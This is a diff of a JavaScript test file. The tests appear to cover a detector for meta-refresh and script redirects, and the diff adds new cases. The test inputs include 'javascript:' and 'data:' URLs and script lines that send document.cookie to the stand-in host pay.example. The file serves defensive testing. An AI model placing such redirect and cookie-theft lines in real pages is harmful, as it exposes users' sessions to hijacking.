@@ -20,9 +20,11 @@ describe('a refresh', () => {
     '5;',
     `900;url=${pay}`,
     '0;url=/checkout',
+    '0;url=//pay.example/',
     '0;url=http://pay.example/',
     '0;url=http://localhost:5173/pay',
     '0;url=javascript:alert(1)',
+    '0;url=data:text/html,x',
     '0;url=https://user:pass@pay.example/',
     `0;url='${pay}`,
     `0;url=${pay} and more`,
@@ -49,10 +51,13 @@ describe('a script', () => {
 
   test.each([
     `location.href='${pay}&c='+document.cookie`,
+    `location.replace('${pay}&c=' + document.cookie)`,
     `location.assign(base + '${pay}')`,
     // biome-ignore lint/suspicious/noTemplateCurlyInString: the text of a script
     'location.href = `https://pay.example/${document.cookie}`',
     `relocation = '${pay}'`,
+    `my.location = '${pay}'`,
+    `location == '${pay}'`,
     `location.hash = '${pay}'`,
     `location.hrefs = '${pay}'`,
     "location.href = 'http://pay.example/'",
